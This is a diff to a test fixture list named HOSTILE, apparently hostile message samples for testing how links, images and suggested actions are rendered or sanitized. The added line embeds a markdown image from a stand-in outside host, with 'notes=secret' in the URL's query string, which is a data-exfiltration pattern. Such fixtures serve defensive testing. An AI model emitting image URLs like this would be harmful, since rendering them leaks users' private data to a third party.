@@ -227,6 +227,8 @@ HOSTILE = [
             {
                 "text": "Read [the report](https://elsewhere.example/report?id=7), "
                 "[the guide](https://docs.example/guide) or [a page here](/c/none).\n\n"
+                "![chart](https://elsewhere.example/pixel.png?notes=secret) "
+                "![logo](https://docs.example/logo.png)\n\n"
                 "SUGGESTED_ACTIONS: ["
                 '{"label": "Open the report", "action": "open_url", "handler": "client", '
                 '"data": {"url": "https://elsewhere.example/report?id=7"}}, '
